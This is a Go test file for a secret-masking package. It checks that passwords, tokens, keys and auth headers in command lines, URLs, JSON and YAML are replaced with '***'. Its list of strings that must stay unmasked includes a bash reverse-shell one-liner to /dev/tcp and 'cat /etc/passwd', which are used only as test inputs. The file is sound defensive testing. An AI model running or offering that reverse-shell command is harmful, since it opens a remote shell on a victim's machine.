package mask

import (
	"strings"
	"testing"
)

func TestSecretsAreHidden(t *testing.T) {
	jwt := "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"
	tests := []struct{ name, in, want string }{
		{"a flag with =", "app --password=hunter2 -v", "app --password=*** -v"},
		{"a flag and a word", "app --password hunter2 -v", "app --password *** -v"},
		{"a flag with one dash", "app -token abc", "app -token ***"},
		{"a flag without value", "app --password --verbose", "app --password --verbose"},
		{"a quoted value", `app --api-key="a b" x`, `app --api-key="***" x`},
		{"the environment", "DB_PASSWORD=x\x00HOME=/root", "DB_PASSWORD=***\x00HOME=/root"},
		{"several", "A_TOKEN=x B_SECRET=y C=z", "A_TOKEN=*** B_SECRET=*** C=z"},
		{"mysql", "mysql -uroot -phunter2 db", "mysql -uroot -p*** db"},
		{"sshpass", "sshpass -p hunter2 ssh host", "sshpass -p *** ssh host"},
		{"curl", "curl -u me:hunter2 https://x", "curl -u me:*** https://x"},
		{"a URL", "postgres://me:hunter2@db:5432/x", "postgres://me:***@db:5432/x"},
		{"a URL with a token", "https://abcdef@github.com/x", "https://***@github.com/x"},
		{"a query", "https://x/?token=abc&y=1", "https://x/?token=***&y=1"},
		{"a header", "Authorization: Basic dXNlcjpwYXNz\r\nHost: x", "Authorization: ***\r\nHost: x"},
		{"a header in a command", `curl -H "Authorization: Bearer abc.def" x`, `curl -H "Authorization: ***" x`},
		{"a bearer token", "auth is Bearer abcdefgh1234", "auth is Bearer ***"},
		{"JSON", `{"password":"hunter2","user":"me"}`, `{"password":"***","user":"me"}`},
		{"JSON in JSON", `{\"apiKey\": \"abc\"}`, `{\"apiKey\": \"***\"}`},
		{"YAML", "password: hunter2\nuser: me", "password: ***\nuser: me"},
		{"an AWS key", "id AKIAIOSFODNN7EXAMPLE end", "id *** end"},
		{"an AWS secret", "aws_secret_access_key = wJalr/XUtn", "aws_secret_access_key = ***"},
		{"a JWT", "x " + jwt + " y", "x *** y"},
		{"a private key", "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----", "-----BEGIN RSA PRIVATE KEY-----***-----END RSA PRIVATE KEY-----"},
		{"a private key that is cut", "-----BEGIN PRIVATE KEY-----\nMIIE", "-----BEGIN PRIVATE KEY-----***"},
		{"a token of a service", "git clone ghp_abcdefghijklmnopqrstuvwxyz0123456789", "git clone ***"},
		{"hidden already", "--password=*** x", "--password=*** x"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := String(tt.in)
			if got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
			if again := String(got); again != got {
				t.Errorf("masked again it is %q", again)
			}
			if Found([]byte(tt.in)) != (got != tt.in) {
				t.Error("Found says something else")
			}
		})
	}
}

var plain = []string{
	"", "cat /etc/passwd", "cat: /etc/passwd: Permission denied", "mkdir -p /a/b", "ssh -p 22 host", "docker run -p 8080:80 nginx",
	"PWD=/root OLDPWD=/", "app --password-file=/run/secrets/x", "app --token-ttl 5m", "max_tokens=5", "https://example.com/a@b", "http://[::1]:80/",
	"kubectl create secret generic x", "12:30:45", "sh -c 'echo hi'", "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
	"PASSWORD=$DB_PASSWORD", "a basic understanding of it", "eyJ not a token", "AKIA", "mysql --port=3306 -uroot", "secretName: x",
	"/usr/bin/python3 -m http.server", "a=b:c=d", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
}

func TestWhatIsNoSecretStays(t *testing.T) {
	for _, s := range plain {
		if got := String(s); got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
}

func TestNothingIsAllocatedWhenNothingMatches(t *testing.T) {
	for _, s := range plain {
		b := []byte(s)
		if n := testing.AllocsPerRun(10, func() { _ = String(s); Found(b) }); n > 0 {
			t.Errorf("%q: %v allocations", s, n)
		}
	}
}

// Masked text is masked: the same again changes nothing, and what stands
// outside of secrets is there in its order.
func FuzzString(f *testing.F) {
	for _, s := range plain {
		f.Add(s)
	}
	f.Add("--password=x -p y mysql -pz https://a:b@c Authorization: Basic x\n-----BEGIN PRIVATE KEY-----x")
	f.Add(`token=token=token="token`)
	f.Fuzz(func(t *testing.T, s string) {
		got := String(s)
		if (got == s) == Found([]byte(s)) && !strings.Contains(s, Hidden) {
			t.Errorf("%q: String and Found differ", s)
		}
		rest := s
		for _, part := range strings.Split(got, Hidden) {
			i := strings.Index(rest, part)
			if i < 0 {
				t.Fatalf("%q became %q", s, got)
			}
			rest = rest[i+len(part):]
		}
	})
}

// Text full of triggers takes time in proportion to its length.
func BenchmarkString(b *testing.B) {
	for name, s := range map[string]string{
		"a command line": "/usr/bin/python3 -m http.server --bind 127.0.0.1 --directory /srv/www 8000",
		"signs":          strings.Repeat("=", 4096),
		"dashes":         strings.Repeat("-", 4096),
		"a secret":       "app --verbose --user me --password=hunter2 --listen :80",
	} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(s)))
			b.ReportAllocs()
			for b.Loop() {
				String(s)
			}
		})
	}
}
